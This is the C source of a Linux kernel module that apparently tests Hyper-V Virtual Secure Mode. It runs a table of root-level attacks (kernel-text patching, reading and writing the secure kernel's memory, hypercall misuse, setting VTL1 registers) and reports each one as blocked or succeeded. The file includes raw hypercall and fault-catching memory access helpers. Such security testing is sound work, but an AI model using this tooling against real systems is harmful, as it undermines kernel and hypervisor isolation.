// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by root with a kernel module. Each reports what it tried, whether it was BLOCKED or
 * SUCCEEDED, and how; successful ones are undone, except taking over VTL1.
 */
#include <linux/kdebug.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <asm/asm.h>
#include <asm/mshyperv.h>

#include "attack.h"

unsigned long attack_text, attack_rodata, attack_region;
module_param_named(text, attack_text, ulong, 0400);
MODULE_PARM_DESC(text, "address of a function of the kernel");
module_param_named(rodata, attack_rodata, ulong, 0400);
MODULE_PARM_DESC(rodata, "address of read-only data of the kernel");
module_param_named(region, attack_region, ulong, 0400);
MODULE_PARM_DESC(region, "physical address of the secure kernel's memory");

/* In this order: from the last but one on VTL1 may belong to the attacker. */
static const struct {
	const char *what;
	attack *run;
} attacks[] = {
	{"patching kernel text through an alias", attack_alias_text},
	{"rewriting read-only data through an alias", attack_alias_rodata},
	{"a SynIC page over kernel text", attack_cover_text},
	{"a SynIC page over read-only data", attack_cover_rodata},
	{"taking the protection off kernel text", attack_protections},
	{"reading VTL1's memory", attack_read_region},
	{"writing VTL1's memory", attack_write_region},
	{"a hypercall's output into VTL1's memory", attack_output},
	{"a flood of IPIs into VTL1's work", attack_flood},
	{"starting a processor in VTL1 with own code", attack_start},
	{"reading VTL1's registers", attack_get_registers},
	{"setting VTL1's registers", attack_set_registers},
};

static unsigned int faults; /* #GP */

void attack_tell(struct attack_story *story, const char *format, ...)
{
	va_list arguments;

	va_start(arguments, format);
	vsnprintf(story->text, sizeof(story->text), format, arguments);
	va_end(arguments);
}

bool attack_read(const volatile u8 *at, u8 *value)
{
	u64 good = 1;
	u8 got = 0;

	asm volatile("1: movb (%[at]), %[got]\n\t"
		     "jmp 3f\n\t"
		     "2: xor %k[good], %k[good]\n"
		     "3:\n" _ASM_EXTABLE(1b, 2b)
		     : [got] "+q"(got), [good] "+r"(good)
		     : [at] "r"(at)
		     : "memory");
	*value = got;
	faults += !good;
	return good;
}

bool attack_write(volatile u8 *at, u8 value)
{
	u64 good = 1;

	asm volatile("1: movb %[value], (%[at])\n\t"
		     "jmp 3f\n\t"
		     "2: xor %k[good], %k[good]\n"
		     "3:\n" _ASM_EXTABLE(1b, 2b)
		     : [good] "+r"(good)
		     : [at] "r"(at), [value] "q"(value)
		     : "memory");
	faults += !good;
	return good;
}

/* ------------------------------------------------------------------ hypercalls */

u8 *attack_input;

/* #GP at a hypercall is raised in the hypercall page: resume after the call. */
static struct task_struct *caller;

static int on_die(struct notifier_block *block, unsigned long reason, void *data)
{
	struct pt_regs *regs = ((struct die_args *)data)->regs;

	if (reason != DIE_GPF || current != READ_ONCE(caller) ||
	    (regs->ip & PAGE_MASK) != (unsigned long)hv_hypercall_pg)
		return NOTIFY_DONE;
	regs->ip = *(unsigned long *)regs->sp;
	regs->sp += 8;
	regs->ax = ATTACK_GP;
	faults++;
	return NOTIFY_STOP;
}

static struct notifier_block die_block = {.notifier_call = on_die};

u64 attack_hypercall(u64 control, phys_addr_t output)
{
	u64 result;
	register u64 r8 asm("r8") = output;
	u64 rdx = virt_to_phys(attack_input);
	unsigned long flags;

	local_irq_save(flags);
	WRITE_ONCE(caller, current);
	asm volatile(CALL_NOSPEC
		     : "=a"(result), "+c"(control), "+d"(rdx), "+r"(r8), ASM_CALL_CONSTRAINT
		     : THUNK_TARGET(hv_hypercall_pg)
		     : "cc", "memory", "r9", "r10", "r11");
	WRITE_ONCE(caller, NULL);
	local_irq_restore(flags);
	return result;
}

const char *attack_status(u64 result)
{
	static const struct {
		u64 status;
		const char *name;
	} names[] = {
		{0, "SUCCESS"},
		{2, "INVALID_HYPERCALL_CODE"},
		{5, "INVALID_PARAMETER"},
		{6, "ACCESS_DENIED"},
		{7, "INVALID_PARTITION_STATE"},
		{8, "OPERATION_DENIED"},
		{0xd, "INVALID_PARTITION_ID"},
		{0xe, "INVALID_VP_INDEX"},
		{0x15, "INVALID_VP_STATE"},
		{0x50, "INVALID_REGISTER_VALUE"},
		{0x51, "INVALID_VTL_STATE"},
	};

	if (result == ATTACK_GP)
		return "#GP";
	for (size_t i = 0; i < ARRAY_SIZE(names); i++)
		if (names[i].status == hv_result(result))
			return names[i].name;
	return "another status";
}

/* Of HvCallGetVpRegisters and HvCallSetVpRegisters. */
static void *register_header(u8 input_vtl)
{
	memset(attack_input, 0, PAGE_SIZE);
	*(u64 *)attack_input = HV_PARTITION_ID_SELF;
	*(u32 *)(attack_input + 8) = HV_VP_INDEX_SELF;
	attack_input[12] = input_vtl;
	return attack_input + 16;
}

u64 attack_get_register(u8 input_vtl, u32 name, u64 *value)
{
	u64 *output = (u64 *)get_zeroed_page(GFP_KERNEL);
	u64 result;

	*value = 0;
	if (!output)
		return ATTACK_GP;
	*(u32 *)register_header(input_vtl) = name;
	result = attack_hypercall(HVCALL_GET_VP_REGISTERS | ATTACK_REP(1), virt_to_phys(output));
	*value = *output;
	free_page((unsigned long)output);
	return result;
}

u64 attack_set_register(u8 input_vtl, u32 name, u64 value)
{
	u64 *element = register_header(input_vtl);

	element[0] = name;
	element[2] = value;
	return attack_hypercall(HVCALL_SET_VP_REGISTERS | ATTACK_REP(1), 0);
}

static int __init attack_init(void)
{
	unsigned int succeeded = 0;

	if (!attack_text || !attack_rodata || !attack_region || !hv_is_hyperv_initialized()) {
		pr_err("vsm-attack: text=, rodata= and region= are required, on a Hyper-V "
		       "interface\n");
		return -EINVAL;
	}
	attack_input = (u8 *)get_zeroed_page(GFP_KERNEL);
	if (!attack_input)
		return -ENOMEM;
	register_die_notifier(&die_block);
	for (size_t i = 0; i < ARRAY_SIZE(attacks); i++) {
		struct attack_story story = {""};
		const bool through = attacks[i].run(&story);

		succeeded += through;
		pr_info("vsm-attack: %s: %s: %s\n", attacks[i].what,
			through ? "SUCCEEDED" : "BLOCKED", story.text);
	}
	unregister_die_notifier(&die_block);
	free_page((unsigned long)attack_input);
	pr_info("vsm-attack: %zu blocked, %u succeeded, %u #GP\n", ARRAY_SIZE(attacks) - succeeded,
		succeeded, faults);
	return 0;
}

static void __exit attack_exit(void)
{
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_DESCRIPTION("Attacks on the kernel that runs it and on VTL1");
MODULE_LICENSE("GPL");
